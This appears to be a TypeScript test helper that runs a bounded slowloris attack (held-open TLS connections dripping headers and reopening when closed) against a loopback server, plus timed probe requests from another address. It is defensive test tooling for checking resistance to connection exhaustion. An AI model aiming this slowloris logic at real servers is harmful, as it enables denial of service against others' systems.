// Test support for attacks on connections: slowloris sockets from one address and timed probes
// from another. Every loop is bounded in count and time; every socket goes to loopback.
import { connect as tlsConnect, type TLSSocket } from 'node:tls';
import { request as httpsRequest } from 'node:https';
import { connect as netConnect } from 'node:net';

/** A slowloris attack: keeps up to `sockets` TLS connections from `from`, each sending a header line every `dripMs`. */
export interface SlowAttack {
  /** Connections the attacker opened in all (reopened after each close). */
  opened(): number;
  /** Connections the attacker holds open right now. */
  open(): number;
  stop(): void;
}

/** Starts the attack; it stops itself after `maxMs` or `maxOpens` connections, whichever first. */
export function slowloris(o: {
  port: number;
  from: string;
  sockets: number;
  dripMs: number;
  maxMs: number;
  maxOpens: number;
}): SlowAttack {
  const live = new Set<TLSSocket>();
  const timers = new Set<NodeJS.Timeout>();
  let opened = 0;
  let stopped = false;
  const until = Date.now() + o.maxMs;
  const openOne = (): void => {
    if (stopped || opened >= o.maxOpens || Date.now() > until) return;
    opened += 1;
    // tls.connect has no localAddress: bind the TCP socket first and run TLS over it.
    const tcp = netConnect({ host: '127.0.0.1', port: o.port, localAddress: o.from });
    tcp.on('error', () => undefined);
    const socket = tlsConnect({ socket: tcp, rejectUnauthorized: false, servername: 'localhost' });
    live.add(socket);
    socket.on('error', () => undefined);
    socket.once('secureConnect', () => {
      socket.write('GET / HTTP/1.1\r\nHost: localhost\r\n');
      const drip = setInterval(() => socket.write(`X-Slow-${Date.now() % 1000}: 1\r\n`), o.dripMs);
      timers.add(drip);
      socket.once('close', () => {
        clearInterval(drip);
        timers.delete(drip);
      });
    });
    // A slowloris attacker reopens what the server closes, after a short pause.
    socket.once('close', () => {
      live.delete(socket);
      const t = setTimeout(openOne, 100);
      timers.add(t);
    });
  };
  for (let i = 0; i < o.sockets; i++) openOne();
  const end = setTimeout(() => attack.stop(), o.maxMs);
  const attack: SlowAttack = {
    opened: () => opened,
    open: () => [...live].filter((s) => !s.destroyed).length,
    stop: () => {
      stopped = true;
      clearTimeout(end);
      for (const t of timers) clearTimeout(t);
      for (const s of live) s.destroy();
    },
  };
  return attack;
}

/** One GET from `from`; resolves with the status and how long the answer took, ms (timeout after `limitMs` * 5). */
export function probe(o: {
  port: number;
  from: string;
  path: string;
  host: string;
  limitMs: number;
}): Promise<{ status: number; ms: number }> {
  const started = performance.now();
  return new Promise((resolve) => {
    const req = httpsRequest(
      {
        host: '127.0.0.1',
        port: o.port,
        path: o.path,
        localAddress: o.from,
        rejectUnauthorized: false,
        agent: false,
        servername: 'localhost',
        headers: { host: o.host },
      },
      (res) => {
        res.resume();
        res.on('end', () => resolve({ status: res.statusCode ?? 0, ms: performance.now() - started }));
      },
    );
    req.on('error', () => resolve({ status: 0, ms: performance.now() - started }));
    req.setTimeout(o.limitMs * 5, () => req.destroy());
    req.end();
  });
}
